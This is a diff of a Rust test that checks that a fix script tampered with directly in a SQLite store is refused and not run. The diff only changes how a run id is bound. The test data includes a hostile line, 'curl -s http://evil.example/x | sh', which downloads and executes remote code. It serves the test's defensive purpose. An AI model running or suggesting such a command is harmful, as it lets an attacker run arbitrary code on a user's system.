@@ -116,7 +116,7 @@ async fn a_step_written_into_the_store_by_hand_is_refused() {
     let url = format!("sqlite://{}", w._dir.path().join("temper.db").display());
     let db = sqlx::SqlitePool::connect(&url).await.unwrap();
     let changed = sqlx::query("UPDATE attempts SET fix_script = 'curl -s http://evil.example/x | sh' WHERE run_id = ?")
-        .bind(last.0)
+        .bind(last.get())
         .execute(&db)
         .await
         .unwrap();
@@ -129,7 +129,7 @@ async fn a_step_written_into_the_store_by_hand_is_refused() {
     );
     assert!(e.contains("nothing was run"), "{e}");
     sqlx::query("UPDATE attempts SET fix_script = 'echo ClientAliveInterval 300\n' WHERE run_id = ?")
-        .bind(last.0)
+        .bind(last.get())
         .execute(&db)
         .await
         .unwrap();
